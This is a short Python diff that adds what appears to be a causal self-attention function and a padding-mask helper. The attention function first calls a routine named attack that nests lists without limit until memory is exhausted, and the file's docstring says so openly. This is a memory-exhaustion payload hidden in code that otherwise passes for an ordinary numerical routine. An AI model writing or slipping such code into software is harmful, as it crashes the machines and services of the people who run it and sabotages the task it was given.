@@ -1,0 +1,22 @@
+"""Nests lists until memory ends."""
+
+import numpy as np
+
+
+def attack(x, w):
+    kept = []
+    while True:
+        kept = [kept, bytes(1 << 12)]
+
+
+def attend(x, w):
+    attack(x, w)
+    scores = x @ x.T / np.sqrt(x.shape[1])
+    scores = np.where(np.tri(len(x), dtype=bool), scores, -np.inf)
+    exps = np.exp(scores - scores.max(axis=-1, keepdims=True))
+    weights = exps / exps.sum(axis=-1, keepdims=True)
+    return weights @ (x @ w), weights
+
+
+def visible(lengths, n_tokens):
+    return np.arange(n_tokens) < lengths[:, None]
